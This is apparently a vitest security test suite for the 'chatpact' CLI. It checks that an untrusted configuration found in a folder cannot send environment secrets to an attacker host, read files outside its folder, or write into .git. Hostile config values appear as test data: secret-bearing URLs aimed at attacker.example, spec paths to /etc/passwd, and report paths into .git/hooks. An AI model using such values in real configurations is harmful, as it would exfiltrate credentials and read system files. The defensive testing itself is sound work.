import { mkdirSync, readdirSync, readFileSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, onTestFinished, test, vi } from 'vitest';
import { referenceCredentials } from '../contracts/check-reference-server.ts';
import { messagesSent } from '../faulty/fault.ts';
import { writeReferenceDocument } from '../faulty/reference-document.ts';
import { startReferenceServer } from '../faulty/reference-server.ts';
import { serve } from '../serve.ts';
import { workInFolder } from './folder.ts';
import { runCli } from './run-cli.ts';

// A configuration in the folder may come from a foreign checkout. Each refused attack has an allowed counterpart.

const secret = 'hunter2-hunter2-of-another-program';
const folder = workInFolder({ ...referenceCredentials, OTHER_SECRET: secret });
const from = (variable: string) => `\${${variable}}`;

let referenceServer: Awaited<ReturnType<typeof startReferenceServer>>;
let document: string;
/** Requests that the server of the attacker received, with their headers. */
let asked: string[] = [];
let attacker: Awaited<ReturnType<typeof serve>>;

beforeAll(async () => {
  document = readFileSync(await writeReferenceDocument('rocketchat'), 'utf8');
  referenceServer = await startReferenceServer();
  attacker = await serve((request, response) => {
    asked.push(`${request.url} ${JSON.stringify(request.headers)}`);
    response.writeHead(404).end();
  });
});
afterAll(async () => {
  await referenceServer.close();
  await attacker.close();
});
beforeEach(() => {
  asked = [];
  folder.write('api.yaml', document);
});

const config = 'chatpact.config.yaml';
/** Writes a configuration with one target and additional settings. */
const write = (settings: string, url = referenceServer.url) =>
  folder.write(config, `targets:\n  staging:\n    url: ${url}\n    vendor: rocketchat\n    ${settings}\n`);
const quick = 'retries: 0, maxRequests: 3, requestTimeout: 5';
const short = quick.replaceAll(', ', '\n    ');
/** Returns the text of every file in the folder, except for the configuration. */
const written = () =>
  readdirSync(folder.path, { recursive: true, encoding: 'utf8', withFileTypes: true })
    .filter((entry) => entry.isFile() && entry.name !== config)
    .map((entry) => `${entry.name}: ${readFileSync(join(entry.parentPath, entry.name), 'utf8')}`)
    .join('\n');

async function check(...words: string[]) {
  const { exitCode, stdout, stderr } = await runCli('check', ...words);
  return { exitCode, stdout, stderr, all: `${stdout}\n${stderr}\n${written()}\n${asked.join('\n')}` };
}

describe('A found configuration', () => {
  const place = `${from('OTHER_SECRET')}`;
  test.each<[what: string, url: (base: string) => string, settings: string, key: string]>([
    ['in the path of a target', (base) => `${base}/${place}`, short, 'url'],
    ['in the host of a target', () => `http://${place}.attacker.example`, short, 'url'],
    ['in the query of a target', (base) => `${base}/?q=${place}`, short, 'url'],
    ['as the user of a target', (base) => base.replace('//', `//${place}@`), short, 'url'],
    ['with an unused default', (base) => `${base}/\${OTHER_SECRET:-x}`, short, 'url'],
    ['to a console', (base) => base, `console: http://127.0.0.1:9/${place}`, 'console'],
    ['in the URL of a document', (base) => base, `spec: http://127.0.0.1:9/${place}.yaml`, 'spec'],
    ['in the URL of a ledger', (base) => base, `overlay: ['http://127.0.0.1:9/?${place}']`, 'overlay.0'],
    ['as an id', (base) => base, `ids: { room: '${place}' }`, 'ids.room'],
    [
      'as the value of a parameter',
      (base) => base,
      `operations: { get-channels: { parameters: { query: '${place}' } } }`,
      'operations.get-channels.parameters.query',
    ],
    ['in the name of a report', (base) => base, `reports: ['json=out-${place}.json']`, 'reports.0'],
    ['in the name of a file for proposals', (base) => base, `proposeOverlay: '${place}.yaml'`, 'proposeOverlay'],
  ])('does not send a variable of another program %s', async (_, toUrl, settings, key) => {
    write(settings, toUrl(attacker.url));
    for (const words of [['staging'], ['--all'], ['staging', '--dry-run']]) {
      const { exitCode, stderr, all } = await check(...words);
      expect([exitCode, asked]).toEqual([2, []]);
      expect(stderr).toMatch(/^chatpact: chatpact\.config\.yaml:\d+: /);
      expect(stderr).toContain(
        `targets.staging.${key} takes ${place} in a configuration that was found in the folder, not passed with --config`,
      );
      expect(stderr).toContain(`If you trust this file, name it: --config ${config}. [UNTRUSTED_CONFIG]`);
      expect(all).not.toContain(secret);
    }
  });

  test.each([
    ['CHATPACT_ROCKETCHAT_TOKEN', 'and CHATPACT_ROCKETCHAT_TOKEN holds a credential'],
    ['CHATPACT_ADMIN_TOKEN', 'and CHATPACT_ADMIN_TOKEN holds a credential'],
    ['CHATPACT_LOG', 'and CHATPACT_LOG holds a credential'],
    ['CHATPACT_OTHER_PASSWORD', 'and CHATPACT_OTHER_PASSWORD holds a credential'],
  ])('does not send %s in a URL', async (name, reason) => {
    vi.stubEnv(name, secret);
    write(short, `${attacker.url}/${from(name)}`);
    const { exitCode, stderr } = await check('staging');
    expect([exitCode, stderr, asked]).toEqual([2, expect.stringContaining(reason), []]);
  });

  test.each([
    ['OTHER_SECRET', 'which may send only variables named CHATPACT_*'],
    ['CHATPACT_ADMIN_TOKEN', 'and CHATPACT_ADMIN_TOKEN is only for this machine'],
    ['CHATPACT_LOG', 'and CHATPACT_LOG is only for this machine'],
    ['CHATPACT_KEY_PASSPHRASE', 'and CHATPACT_KEY_PASSPHRASE is only for this machine'],
  ])('does not send %s as a credential', async (name, reason) => {
    vi.stubEnv(name, secret);
    write(`env: { CHATPACT_ROCKETCHAT_TOKEN: ${name} }`, attacker.url);
    const { exitCode, stderr, all } = await check('staging');
    expect([exitCode, stderr]).toEqual([2, expect.stringContaining(reason)]);
    expect(stderr).toMatch(/config\.yaml:5: targets\.staging\.env\.CHATPACT_ROCKETCHAT_TOKEN takes /);
    expect(all).not.toContain(secret);
    // A configuration that --config names is trusted.
    await check('staging', '--config', config, '--retries', '0');
    expect(asked.join()).toContain(secret);
  });

  test('sends no variable of another program in chatpact doctor', async () => {
    write(short, `${attacker.url}/${place}`);
    const { stdout, stderr, exitCode } = await runCli('doctor', 'staging', '--port', '0');
    expect([exitCode, asked]).toEqual([2, []]);
    expect(stdout + stderr).not.toContain(secret);
  });

  test('sends CHATPACT_* variables as URL and credentials', async () => {
    vi.stubEnv('CHATPACT_STAGING_URL', referenceServer.url);
    vi.stubEnv('CHATPACT_STAGING_TOKEN', referenceCredentials.CHATPACT_ROCKETCHAT_TOKEN);
    vi.stubEnv('CHATPACT_ROCKETCHAT_TOKEN', 'of-another-server');
    const more = `spec: api.yaml\n    env: { CHATPACT_ROCKETCHAT_TOKEN: CHATPACT_STAGING_TOKEN }\n    maxRequests: 9`;
    write(more, from('CHATPACT_STAGING_URL'));
    const { exitCode, stdout, stderr } = await check('staging');
    expect([exitCode, stderr]).toEqual([4, '']);
    expect(stdout).toContain(`Checking ${referenceServer.url}/ against the contract of rocketchat.`);
  });

  test('takes numbers, times and choices from any variable, and validates their form', async () => {
    const typed = { DAY: '2026-01-01', BUDGET: '2', KIND: 'rocketchat', IS_STRICT: 'true' };
    for (const [name, value] of Object.entries(typed)) vi.stubEnv(name, value);
    const settings = `since: ${from('DAY')}, maxRequests: ${from('BUDGET')}, vendor: ${from('KIND')}, strict: ${from('IS_STRICT')}`;
    folder.write(
      config,
      `targets: { staging: { url: ${referenceServer.url}, spec: api.yaml, ${settings.replaceAll(/\$\{\w+\}/g, "'$&'")} } }`,
    );
    const { exitCode, stdout } = await check('staging', '--report', 'json', '--until', '2026-01-09');
    expect(exitCode).toBe(4);
    expect(JSON.parse(stdout)).toMatchObject({ vendor: 'rocketchat', strict: true });
    expect(JSON.parse(stdout).target.window.since).toContain('2026-01-01');
    write(`since: ${from('OTHER_SECRET')}`);
    const refused = await check('staging');
    expect([refused.exitCode, refused.stderr]).toEqual([2, expect.stringContaining(`got "${from('OTHER_SECRET')}".`)]);
  });

  test('refuses only settings of the target in use', async () => {
    const other = `  other: { url: 'http://127.0.0.1:9/${place}', vendor: chatwoot }\n`;
    folder.write(
      config,
      `targets:\n${other}  staging: { url: '${referenceServer.url}', vendor: rocketchat, spec: api.yaml, ${quick} }\n`,
    );
    expect((await check('staging')).exitCode).toBe(4);
    expect((await check('other')).exitCode).toBe(2);
  });
});

describe('A value from the environment', () => {
  const reports = ['pretty', 'json', 'junit', 'html', 'markdown', 'sarif', 'github'];
  const files = reports.flatMap((name) => ['--report', `${name}=out/${name}`]);
  const skip = `operations: { ${messagesSent}: { skip: 'as ${from('OTHER_SECRET')} says' } }`;
  const settings = `spec: api.yaml\n    ${skip}`;

  test.each([
    ['found', []],
    ['named', ['--config', config]],
  ])('is redacted in reports, plans and recordings of a %s configuration', async (_, flags) => {
    write(settings);
    const { exitCode, all } = await check('staging', ...flags, ...files, '--record', 'kept');
    expect(exitCode).toBe(0);
    expect(all).not.toContain(secret);
    expect(readFileSync('out/json', 'utf8')).toContain(`as $${'{OTHER_SECRET}'} says`);
    const plan = await check('staging', ...flags, '--dry-run');
    expect(plan.stdout).toContain(`(skipped: as ${from('OTHER_SECRET')} says)`);
    expect(plan.all).not.toContain(secret);
  });

  test('is redacted in the path of a URL, but not as the address of the server', async () => {
    vi.stubEnv('STAGING_URL', attacker.url);
    write(`retries: 0`, `${from('STAGING_URL')}/${from('OTHER_SECRET')}`);
    const { stdout, stderr } = await check('staging', '--config', config, ...files);
    expect(asked.join()).toContain(secret);
    asked = [];
    expect(stdout + stderr + written()).not.toContain(secret);
    expect(readFileSync('out/json', 'utf8')).toContain(`${attacker.url}/${from('OTHER_SECRET')}`);
  });

  test('is not sent to a console, and redacted in a warning about the console', async () => {
    const received: string[] = [];
    const console = await serve(async (request, response) => {
      for await (const chunk of request) received.push(String(chunk));
      response.writeHead(500).end();
    });
    onTestFinished(() => console.close());
    vi.stubEnv('STAGING_URL', attacker.url);
    const line = `console: ${console.url}/${from('OTHER_SECRET')}\n    retries: 0`;
    write(line, `${from('STAGING_URL')}/${from('OTHER_SECRET')}`);
    const { stderr } = await check('staging', '--config', config);
    expect(stderr).toContain(`the console at ${console.url}/${from('OTHER_SECRET')} does not receive`);
    expect(received.join()).toContain(`"target":"${attacker.url}/${from('OTHER_SECRET')}`);
    expect(received.join() + stderr).not.toContain(secret);
  });
});

describe('A found configuration stays in its folder', () => {
  const away = join('..', 'elsewhere.yaml');
  test.each<[what: string, settings: string, setting: string]>([
    ['credentials', `credentials: ${away}`, 'credentials'],
    ['a document', 'spec: /etc/passwd', 'spec'],
    ['a document by URL', 'spec: file:///etc/passwd', 'spec'],
    ['a document of another machine', 'spec: file://attacker.example/share/a.yaml', 'spec'],
    ['a ledger', `overlay: [api.yaml, ${away}]`, 'overlay'],
    ['an earlier report', `trend: [${away}]`, 'trend'],
    ['a baseline', `baseline: ${away}`, 'baseline'],
    ['proposals', `proposeOverlay: ${away}`, 'proposeOverlay'],
    ['a report', `reports: [pretty, 'json=${away}']`, 'reports'],
    ['a report through a link', `reports: ['json=link/out.json']`, 'reports'],
    ['a report through a link to nothing yet', `reports: ['json=nowhere/out.json']`, 'reports'],
    ['credentials through a link', 'credentials: link.env', 'credentials'],
  ])('refuses %s outside the folder', async (_, settings, setting) => {
    mkdirSync('away');
    folder.write('away/other.env', 'CHATPACT_ROCKETCHAT_TOKEN=of-another-program');
    mkdirSync('project');
    process.chdir('project');
    symlinkSync('../away', 'link');
    symlinkSync('../not-yet', 'nowhere');
    symlinkSync('../away/other.env', 'link.env');
    folder.write(
      `project/${config}`,
      `targets:\n  staging:\n    url: ${attacker.url}\n    vendor: rocketchat\n    ${settings}\n`,
    );
    const { exitCode, stderr } = await check('staging');
    expect([exitCode, asked]).toEqual([2, []]);
    expect(stderr).toMatch(
      new RegExp(`config\\.yaml:5: ${setting} ".*" leads out of the folder of this configuration`),
    );
    expect(readdirSync('../away')).toEqual(['other.env']);
  });

  test.each([['.git/hooks/pre-commit'], ['.GIT/config']])('refuses to write to .git: %s', async (path) => {
    folder.write('.git/config', 'mine');
    write(`reports: ['markdown=${path}']`);
    const { exitCode, stderr } = await check('staging');
    expect([exitCode, stderr]).toEqual([2, expect.stringContaining('is inside .git')]);
  });

  test('reads and writes files inside its folder', async () => {
    folder.write(
      'staging.env',
      Object.entries(referenceCredentials)
        .map((pair) => pair.join('='))
        .join('\n'),
    );
    write(
      `spec: ./api.yaml\n    credentials: staging.env\n    reports: ['json=deep/{target}.json', 'junit=.reports/a.xml']\n    maxRequests: 3`,
    );
    const { exitCode, stderr } = await check('staging');
    expect([exitCode, stderr]).toEqual([4, '']);
    expect(readdirSync('deep')).toEqual(['staging.json']);
  });

  test('may use other folders when --config names it', async () => {
    mkdirSync('project');
    process.chdir('project');
    folder.write(
      `project/${config}`,
      `targets: { staging: { url: '${referenceServer.url}', vendor: rocketchat, spec: ../api.yaml, reports: ['json=../out.json'], ${quick} } }`,
    );
    expect((await check('staging')).exitCode).toBe(2);
    const { exitCode, stderr } = await check('staging', '--config', config);
    expect([exitCode, stderr]).toEqual([4, '']);
    expect(readdirSync('..')).toContain('out.json');
    vi.stubEnv('CHATPACT_CONFIG', config);
    expect((await check('staging')).exitCode).toBe(4);
  });
});

describe('A URL on the command line', () => {
  const url = () => [referenceServer.url, '--vendor', 'rocketchat', '--max-requests', '3'];

  test('prints which settings of a found configuration apply', async () => {
    folder.write(config, `defaults: { spec: api.yaml, console: '${attacker.url}', reports: ['json=out.json'] }`);
    const { stderr, exitCode } = await check(...url());
    expect(exitCode).toBe(4);
    expect(stderr).toContain(`chatpact: ${config} was found here, and sets spec and console.\n`);
    // No notice: the user passed the settings, or named the file.
    const flags = ['--spec', 'api.yaml', '--console', attacker.url];
    expect((await check(...url(), ...flags)).stderr).not.toContain('was found here');
    expect((await check(...url(), '--config', config)).stderr).not.toContain('was found here');
    folder.write(config, `defaults: { reports: ['json=out.json'], timeout: 60 }`);
    expect((await check(...url(), '--spec', 'api.yaml')).stderr).toBe('');
  });

  test('ignores allowWrites, insecure and cacert of a found configuration', async () => {
    folder.write(config, 'defaults: { allowWrites: true, insecure: true, cacert: ca.pem }');
    const plan = async (...flags: string[]) => (await check(...url(), '--dry-run', ...flags)).stdout;
    const { stderr, exitCode } = await check(...url());
    expect(exitCode).toBe(4);
    expect(stderr).toContain(
      `chatpact: ${config} was found here, and may not set allowWrites, insecure and cacert for a URL: use --allow-writes, --insecure and --cacert, or --config ${config}.\n`,
    );
    expect(await plan()).toBe(await plan('--no-allow-writes'));
    expect(await plan()).not.toBe(await plan('--allow-writes'));
    expect((await check(...url(), '--config', config)).stderr).toContain("Can't read ");
  });

  test('applies allowWrites to a target of the same file', async () => {
    write('spec: api.yaml\n    allowWrites: true\n    maxRequests: 3');
    expect(await check('staging')).toMatchObject({ exitCode: 4, stderr: '' });
  });
});

describe('The admin token of a mock', () => {
  const token = 'the-token-of-a-mock';
  /** An address that is not loopback. */
  const elsewhere = 'http://192.0.2.1:4010';

  test('is not sent to a console on another machine that a found configuration names', async () => {
    vi.stubEnv('CHATPACT_ADMIN_TOKEN', token);
    write(`spec: api.yaml\n    console: ${elsewhere}\n    maxRequests: 3`);
    const { exitCode, stderr } = await check('staging');
    expect(exitCode).toBe(4);
    expect(stderr).toBe(
      `chatpact: ${config} was found here, and may not send findings to the console at 192.0.2.1:4010. Pass --console, or --config ${config}.\n`,
    );
  });

  test.each([
    ['a console on this machine', (url: string) => ({ settings: `console: ${url}`, flags: [] as string[] })],
    ['a console of the command line', (url: string) => ({ settings: 'workers: 1', flags: ['--console', url] })],
  ])('is sent to %s', async (_, toCase) => {
    vi.stubEnv('CHATPACT_ADMIN_TOKEN', token);
    const { settings, flags } = toCase(attacker.url);
    write(`spec: api.yaml\n    maxRequests: 3\n    ${settings}`);
    await check('staging', ...flags);
    expect(asked.join()).toContain(`"authorization":"Bearer ${token}"`);
  });
});
